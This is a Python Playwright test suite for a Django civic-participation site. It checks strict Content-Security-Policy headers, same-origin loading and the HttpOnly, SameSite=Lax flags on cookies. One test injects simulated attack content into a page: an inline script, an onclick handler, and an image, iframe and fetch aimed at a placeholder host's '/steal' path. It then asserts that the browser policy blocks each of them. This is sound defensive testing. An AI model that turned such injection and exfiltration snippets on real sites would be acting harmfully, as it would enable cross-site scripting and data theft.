"""What browsers are told and asked: nothing leaves the site's own origin, the policy says so on every answer, and
whoever only reads keeps no cookie that could recognise them.

Every page of every other story fails on a foreign request and on any error in the console as well (`conftest.Watch`).
"""

from collections.abc import Callable, Sequence
from urllib.parse import urlsplit

import pytest
from django.conf import settings
from playwright.sync_api import APIResponse, Page, Response, expect
from pytest_django.fixtures import Settings
from pytest_django.live_server_helper import LiveServer

from accounts.models import User
from geoparticipation.basemaps import Basemap
from mapping.links.short import code_of
from mapping.models import Campaign
from mapping.services.identity import edit_token
from mapping.services.surveys.responses import Sheet, respond
from tests import personas
from tests.engagement.making import make_event
from tests.personas import Citizen
from tests.surveys.every_kind import make_survey
from tests.voting.making import make_vote

pytestmark = [pytest.mark.browser, pytest.mark.django_db(transaction=True)]

type_of_visit = Callable[..., Page]

LOOSE = ("unsafe-inline", "unsafe-eval", "wasm-unsafe-eval", "http:", "https:", "*", "ws:", "filesystem:")


class Traffic:
    """Every answer that a page got."""

    def __init__(self, page: Page) -> None:
        self.answers: list[Response] = []
        page.on("response", self._answered)

    def _answered(self, answer: Response) -> None:
        self.answers.append(answer)

    def take(self) -> list[Response]:
        taken, self.answers[:] = list(self.answers), []
        return taken


def policy_of(answer: Response | APIResponse) -> dict[str, list[str]]:
    header = answer.headers.get("content-security-policy", "")
    return {name: values for name, *values in (part.split() for part in header.split(";") if part.strip())}


def check(answers: Sequence[Response | APIResponse], origin: str) -> None:
    """Each answer is the site's own and carries the strict policy."""
    assert answers
    for answer in answers:
        parts = urlsplit(answer.url)
        if parts.scheme in {"data", "blob"}:
            continue
        assert f"{parts.scheme}://{parts.netloc}" == origin
        if parts.path.startswith(settings.STATIC_URL):
            continue  # a policy binds the page, not what it loads; and the test's server is not the real one there
        assert answer.headers["x-content-type-options"] == "nosniff", answer.url
        policy = policy_of(answer)
        assert policy["default-src"] == ["'none'"], answer.url
        assert policy["frame-ancestors"] == ["'none'"], answer.url
        if "json" not in (kind := answer.headers.get("content-type", "")) and not kind.startswith("image/"):
            assert policy["script-src"] == policy["style-src"] == policy["connect-src"] == ["'self'"], (
                answer.url
            )
            assert policy["base-uri"] == ["'none'"], answer.url
            assert policy["form-action"] == ["'self'"], answer.url
        for name, values in policy.items():
            assert not {value.strip("'") for value in values} & set(LOOSE), (answer.url, name)
            for value in values:
                assert value in {"'none'", "'self'", "data:", "blob:"}, (answer.url, name)


def cookies(page: Page) -> dict[str, dict[str, object]]:
    return {cookie["name"]: dict(cookie) for cookie in page.context.cookies()}


@pytest.fixture
def base_map(settings: Settings, visit: type_of_visit) -> None:
    """The base map as it is, but without tiles: what the browser asks for is the site's own tile route."""
    settings.BASEMAPS = {
        name: Basemap(template="", attribution="© basemap.de / BKG", maximum_zoom=20)
        for name in ("colour", "grey")
    }


def test_all_pages_load_from_their_own_origin_under_a_strict_policy(
    visit: type_of_visit,
    live_server: LiveServer,
    *,
    base_map: None,
    citizen: Citizen,
    manager: User,
    administrator: User,
    campaign: Campaign,
    cells_campaign: Campaign,
    closed_campaign: Campaign,
) -> None:
    contribution = personas.make_contribution(campaign, by=citizen)
    make_survey(campaign)
    make_vote(campaign)
    response = respond(campaign, Sheet({"colour": "red"}), citizen.secret).response
    page_of = f"/campaigns/{campaign.slug}/"
    of_planning = f"/planning/{campaign.slug}/"
    public = (
        "/",
        "/help/",
        *("/privacy/", "/privacy/versions/"),
        *("/offline/", "/accessibility/", "/accessibility/report/", "/accessibility/report/sent/"),
        f"/k/{code_of(campaign.pk)}",
        *("/campaigns/", "/search/", "/search/?q=fear", "/plans/", "/bodies/", "/documents/", "/outcomes/"),
        "/accounts/login/",
        "/accounts/reset/",
        "/accounts/reset/MQ/x-y/",
        "/api/v1/docs/",
        page_of,
        f"{page_of}contribute/?category=survey",
        f"{page_of}contributions/{contribution.pk}/",
        f"{page_of}contributions/{contribution.pk}/report/",
        f"/mine/{edit_token(contribution.pk)}/",
        *(f"/mine/{room}" for room in ("", "delete/", f"{edit_token(contribution.pk)}/thanks/")),
        f"/response/{edit_token(response.pk)}/thanks/",
        f"{page_of}survey/",
        f"{page_of}votes/vote/",
        *(f"/response/{edit_token(response.pk)}/{room}" for room in ("", "change/", "withdraw/")),
        f"/campaigns/{cells_campaign.slug}/",
        f"{page_of}heatmap/",
        *(f"{page_of}{part}" for part in ("embed/", "kiosk/")),
        f"/campaigns/{closed_campaign.slug}/",
        *(f"/calendar/?view={view}" for view in ("month", "week", "list", "map")),
        make_event(None, campaign, place="POINT(7.77 49.44)").get_absolute_url(),
        *(f"/subscriptions/{part}" for part in ("", "?about=circle", "link/", "sent/")),
        "/no/such/page/",
    )
    own = (
        *("/planning/", "/planning/account/", "/planning/account/password/"),
        *("/accounts/factors/", "/accounts/again/"),
    )
    staff = (
        *own,
        *(
            of_planning + room
            for room in ("queue/", "heatmap/", "numbers/", "outreach/", "who/", "who/colour/")
        ),
        *(f"{of_planning}survey/{room}" for room in ("", "texts/", "tags/")),
    )
    steps = ("categories/", "new-category/", "questions/", "question/colour/", "new-question/?kind=matrix")
    staff = (*staff, *(f"{of_planning}setup/{step}" for step in steps))
    kept = (
        "/admin/",
        *("/planning/operation/", "/planning/audit/"),
        f"/admin/mapping/campaign/{campaign.pk}/change/",
        f"/planning/{cells_campaign.slug}/areas/",
        *(
            f"{of_planning}setup/{step}/"
            for step in (
                "texts",
                "area",
                "period",
                "publication",
                "retention",
                "languages",
                "people",
                "publish",
            )
        ),
        f"{of_planning}setup/history/",
        f"{of_planning}setup/places/",
        *(f"{of_planning}paper/{query}" for query in ("", "?batch=7")),
        *(
            of_planning + room
            for room in ("votes/", "voting-codes/", "ballots/?pile=7", "votes/vote/irregular/")
        ),
        *(f"/planning/city/{part}" for part in ("", "boundary/", "history/")),
        *(f"/planning/calendar/{part}" for part in ("", "new/")),
        f"{of_planning}setup/preview/",
    )
    for user, paths in ((None, public), (manager, staff), (administrator, kept)):
        page = visit("desktop", user=user, citizen=None if user else citizen)
        page.watch.allow("status of 404")  # type: ignore[attr-defined]
        traffic = Traffic(page)
        for path in paths:
            page.goto(path)
            page.wait_for_load_state("networkidle")
            check(traffic.take(), live_server.url)
        if user == manager:
            poster = f"{of_planning}outreach/poster.pdf?size=A4&language=de"
            check([page.request.get(poster)], live_server.url)
    # Browsers open these without a page around them. What else there is: `tests/site/test_every_page.py`.
    for path in (
        "/healthz",
        *("/sw.js", "/manifest.webmanifest", "/icon-192.png", "/ground/11/1068/699.mvt"),
        f"{page_of}share.png",
        "/api/v1/openapi.json",
        "/api/v1/campaigns/",
        f"/api/v1{page_of}download.geojson",
    ):
        check([visit("desktop").request.get(path)], live_server.url)


def test_no_program_of_others_runs_and_nothing_is_sent_elsewhere(
    visit: type_of_visit, live_server: LiveServer, campaign: Campaign
) -> None:
    """The policy is not only said but kept: what an attacker could put into a page does nothing."""
    page = visit("desktop")
    for words in ("Content Security Policy", "Content-Security-Policy", "violates", "Failed to fetch"):
        page.watch.allow(words)  # type: ignore[attr-defined]
    page.watch.allow("foreign request")  # type: ignore[attr-defined]
    page.goto(f"/campaigns/{campaign.slug}/")
    tried = page.evaluate(
        """async (elsewhere) => {
            const broken = [];
            document.addEventListener("securitypolicyviolation", (event) => broken.push(event.effectiveDirective));
            const add = (tag, values) => document.body.append(Object.assign(document.createElement(tag), values));
            add("script", { textContent: "window.attacked = true" });
            add("div", { innerHTML: "<b id=bait onclick='window.attacked = true' style='color: red'>bait</b>" });
            document.getElementById("bait").click();
            add("img", { src: `${elsewhere}/pixel.png` });
            add("iframe", { src: `${elsewhere}/` });
            try { await fetch(`${elsewhere}/steal`); } catch {}
            await new Promise((done) => setTimeout(done, 300));
            return { broken: [...new Set(broken)].sort(), attacked: window.attacked === true };
        }""",
        "http://elsewhere.invalid",
    )
    assert not tried["attacked"]
    refused = {"connect-src", "frame-src", "img-src", "script-src-attr", "script-src-elem", "style-src-attr"}
    assert refused <= set(tried["broken"])


def test_who_only_reads_keeps_no_cookie_but_the_one_of_forms(
    visit: type_of_visit, campaign: Campaign, published: object
) -> None:
    page = visit("desktop", language="")
    for path in (
        "/",
        "/help/",
        "/privacy/",
        "/imprint/",
        "/accessibility/",
        "/accessibility/report/",
        "/api/v1/docs/",
    ):
        page.goto(path)
        assert cookies(page) == {}, path
    page.request.get(f"/api/v1/campaigns/{campaign.slug}/contributions/")
    assert cookies(page) == {}
    page.goto(f"/campaigns/{campaign.slug}/#list")
    page.watch.settle(page)  # type: ignore[attr-defined]
    assert cookies(page) == {}
    page.get_by_role("link", name="Here it is dark.").click()
    expect(page.get_by_role("article")).to_be_visible()
    kept = cookies(page)
    assert set(kept) <= {settings.CSRF_COOKIE_NAME}
    assert all((cookie["httpOnly"], cookie["sameSite"]) == (True, "Lax") for cookie in kept.values())


def test_cookies_come_with_writing_and_are_out_of_reach_for_scripts(
    visit: type_of_visit, live_server: LiveServer, campaign: Campaign, moderator: User
) -> None:
    page = visit("desktop", language="")
    page.goto(f"/campaigns/{campaign.slug}/contribute/?category=idea")
    page.locator("textarea").last.fill("A market in the evening")
    page.locator("main form button[name=send]").click()
    expect(page.locator(".thanks__mark")).to_be_visible()
    participant = cookies(page)[settings.PARTICIPANT_COOKIE_NAME]
    assert (participant["httpOnly"], participant["sameSite"]) == (True, "Lax")
    assert "participant" not in page.evaluate("document.cookie")

    page.get_by_role("button", name="English").click()
    expect(page.locator("html")).to_have_attribute("lang", "en")
    staff = visit("desktop", language="")
    staff.goto("/accounts/login/")
    staff.locator("[name=username]").fill(moderator.email)
    staff.locator("input[type=password]").fill(personas.PASSWORD)
    staff.locator("main .button--primary").click()
    staff.wait_for_url("**/planning/")
    kept = {**cookies(page), **cookies(staff)}
    assert {settings.LANGUAGE_COOKIE_NAME, settings.SESSION_COOKIE_NAME} <= set(kept)
    assert all((cookie["httpOnly"], cookie["sameSite"]) == (True, "Lax") for cookie in kept.values())
    assert page.evaluate("document.cookie") == staff.evaluate("document.cookie") == ""
